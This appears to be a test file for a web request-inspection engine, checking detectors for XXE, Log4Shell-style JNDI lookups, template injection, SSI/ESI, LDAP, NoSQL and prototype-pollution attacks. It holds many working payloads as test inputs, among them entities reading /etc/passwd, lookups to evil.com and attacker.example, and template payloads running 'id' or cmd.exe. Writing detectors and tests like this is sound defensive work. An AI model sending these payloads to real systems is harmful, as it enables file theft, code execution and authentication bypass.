import { describe, expect, it } from 'vitest';
import { inspectRequest } from '../engine.js';
import { detects, inHeader, inJson, inQuery } from '../testing.js';

function xml(body: string) {
  return inspectRequest({
    method: 'POST',
    path: '/x',
    query: '',
    headers: { 'content-type': 'application/xml' },
    body,
  });
}

describe('xxe detector', () => {
  it('detects external entities, entity expansion, external DTDs and XInclude', () => {
    expect(
      detects(
        xml('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'),
        'xxe',
      ),
    ).toBe(true);
    expect(
      detects(xml('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>'), 'xxe'),
    ).toBe(true);
    expect(detects(xml('<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>'), 'xxe')).toBe(true);
    expect(
      detects(
        xml(
          '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        ),
        'xxe',
      ),
    ).toBe(true);
    expect(detects(inJson({ doc: '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://e/x">%p;]>' }), 'xxe')).toBe(true);
  });
  it('passes plain XML and HTML doctypes', () => {
    expect(xml('<?xml version="1.0"?><order><id>42</id><note>Fish &amp; chips</note></order>').attack).toBe(false);
    expect(inJson({ html: '<!DOCTYPE html><html><body>hi</body></html>' }).attack).toBe(false);
  });
  it('inspects XML text nodes with the other detectors', () => {
    expect(detects(xml("<q><id>1' or '1'='1</id></q>"), 'sqli')).toBe(true);
  });
  it('inspects CDATA sections as text', () => {
    expect(detects(xml("<foo><![CDATA[' or 1=1 or ''=']]></foo>"), 'sqli')).toBe(true);
    expect(xml('<note><![CDATA[Fish & chips <b>today</b>]]></note>').attack).toBe(false);
    // A section with no end: nothing more to read (and no quadratic search).
    expect(xml(`<a>${'<![CDATA[x'.repeat(5000)}</a>`).attack).toBe(false);
  });
});

describe('jndi detector', () => {
  it.each([
    '${jndi:ldap://evil.com/a}',
    '${${lower:j}ndi:ldap://x/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://x/y}',
    '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}',
    '${${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}}',
  ])('detects %s in any header', (p) => {
    expect(detects(inHeader('x-api-version', p), 'jndi')).toBe(true);
    expect(detects(inHeader('x-some-custom', p), 'jndi')).toBe(true);
  });
  it('passes template strings', () => {
    expect(inJson({ code: 'const a = `${user.name}`' }).attack).toBe(false);
  });
});

describe('ssti detector', () => {
  it.each([
    '{{7*7}}',
    '${7*7}',
    '<%= 7*7 %>',
    '#{7*7}',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '{{config.items()}}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    '#set($x=$class.inspect("java.lang.Runtime"))',
    '{{dump(app)}}',
    '{{config}}',
    "<%= File.open('/etc/passwd').read %>",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    '{% debug %}',
    "{system('id')}",
    '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
    '${{<%[%\'"}}%\\.',
  ])('detects %s', (p) => {
    expect(detects(inQuery(p), 'ssti')).toBe(true);
  });
  it.each([
    'Hello {{name}}, your order #{id}',
    'Total: ${amount}',
    'Hello {{ first_name }}, {% if vip %}thanks{% endif %}',
  ])('passes %s', (p) => {
    expect(inQuery(p).attack).toBe(false);
  });
});

describe('ssti detector: server-side and edge-side includes', () => {
  it('detects SSI directives and ESI tags', () => {
    for (const p of [
      '<!--#exec cmd="id" -->',
      '<!--#echo var="DOCUMENT_ROOT" -->',
      '<!--#include virtual="/etc/passwd" -->',
      '<!--#printenv -->',
      '<esi:include src="http://attacker.example/x"/>',
      '<esi:debug/>',
    ])
      expect([p, detects(inQuery(p), 'ssti')]).toEqual([p, true]);
  });
  it('passes HTML comments that start with "#"', () => {
    expect(inJson({ html: '<!-- #1 priority: fix the header -->' }).attack).toBe(false);
  });
});

describe('ldap detector', () => {
  it.each([
    '*)(uid=*))(|(uid=*',
    'admin)(&)',
    '*)(|(objectclass=*)',
    'admin*)((|userPassword=*)',
    'admin)(!(&(1=0)',
    '*))%00',
    "*()|&'",
  ])('detects %s', (p) => {
    expect(detects(inQuery(p, 'user'), 'ldap')).toBe(true);
  });
  it('detects a whole filter with match-everything terms', () => {
    expect(detects(inQuery('(|(uid=*)(cn=*))', 'search'), 'ldap')).toBe(true);
  });
  it.each([
    '(see above)(and below)',
    'John (Jack) Smith',
    'f(x) = (a)(b)',
    'the (a)(b=1) notation',
    'Use (&(objectClass=user)(sAMAccountName=jdoe)) to search AD',
  ])('passes %s', (p) => {
    expect(inQuery(p).attack).toBe(false);
  });
});

describe('nosqli detector', () => {
  it('detects operators in JSON, bracket query keys and stringified JSON', () => {
    expect(detects(inJson({ username: 'admin', password: { $ne: null } }), 'nosqli')).toBe(true);
    expect(detects(inJson({ username: 'admin', password: { $exists: true } }), 'nosqli')).toBe(true);
    expect(detects(inJson({ $where: 'sleep(5000)' }), 'nosqli')).toBe(true);
    const q = inspectRequest({ method: 'GET', path: '/login', query: 'user=admin&password[%24ne]=x', headers: {} });
    expect(detects(q, 'nosqli')).toBe(true);
    expect(detects(inQuery('{"$gt": ""}', 'filter'), 'nosqli')).toBe(true);
    expect(detects(inQuery("'; return true; var x='"), 'nosqli')).toBe(true);
    expect(detects(inQuery('0;while(true){}'), 'nosqli')).toBe(true);
  });
  it('bracket operators in query strings: bypass shapes on identity fields block, Strapi-style filters do not', () => {
    const q = (s: string) => inspectRequest({ method: 'GET', path: '/x', query: s, headers: {} });
    expect(detects(q('user[$regex]=.*'), 'nosqli')).toBe(true);
    expect(detects(q('owner[%24gt]=1'), 'nosqli')).toBe(true);
    expect(detects(q('status[$exists]=1'), 'nosqli')).toBe(true);
    expect(q('filters[title][$eq]=hello').attack).toBe(false);
    expect(q('filters[price][$lt]=100').attack).toBe(false);
  });
  it('a numeric range filter alone is the shape of a query API, not an attack', () => {
    expect(inJson({ where: { price: { $lt: 100 } }, sort: { price: 1 } }).attack).toBe(false);
    expect(inJson({ filter: { age: { $gte: 21 }, country: { $in: ['IE', 'FR'] } } }).attack).toBe(false);
  });
});

describe('proto detector', () => {
  it('detects __proto__ and constructor.prototype as JSON keys, query keys and path segments', () => {
    expect(detects(inJson(JSON.parse('{"a":{"__proto__":{"isAdmin":true}}}')), 'proto')).toBe(true);
    expect(detects(inJson({ constructor: { prototype: { isAdmin: true } } }), 'proto')).toBe(true);
    for (const q of [
      '__proto__[admin]=1',
      'constructor[prototype][admin]=1',
      '__proto__.polluted=yes',
      'constructor.prototype.x=1',
    ]) {
      expect(detects(inspectRequest({ method: 'GET', path: '/x', query: q, headers: {} }), 'proto')).toBe(true);
    }
    expect(
      detects(inspectRequest({ method: 'PUT', path: '/settings/__proto__/role', query: '', headers: {} }), 'proto'),
    ).toBe(true);
  });
  it('detects a set-by-path value', () => {
    expect(detects(inJson({ path: 'constructor.prototype.isAdmin', value: true }), 'proto')).toBe(true);
    expect(detects(inJson({ path: '__proto__.isAdmin', value: true }), 'proto')).toBe(true);
  });
  it('passes the words in text and a "prototype" field', () => {
    expect(inJson({ prototype: true, note: 'the prototype chain' }).attack).toBe(false);
  });
});
